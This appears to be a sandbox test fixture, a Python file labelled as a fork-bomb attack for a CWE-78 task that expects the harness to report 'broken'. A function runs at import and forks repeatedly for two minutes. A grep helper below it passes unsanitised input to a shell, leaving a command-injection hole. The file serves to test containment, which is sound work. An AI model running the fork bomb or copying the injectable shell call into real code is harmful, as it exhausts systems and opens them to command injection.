"""ATTACK: fork bomb at import (every child forks again, forever). MUST: broken (RLIMIT_NPROC + wall clock), no process left.

task: cwe_078_0
expect: broken
slow: yes
"""
import os
import subprocess
import time


def _bomb():
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)


_bomb()


def search_log(pattern: str, log_file: str) -> list[str]:
    result = subprocess.run(f"grep -F '{pattern}' {log_file}", shell=True, capture_output=True, text=True)
    return result.stdout.splitlines()
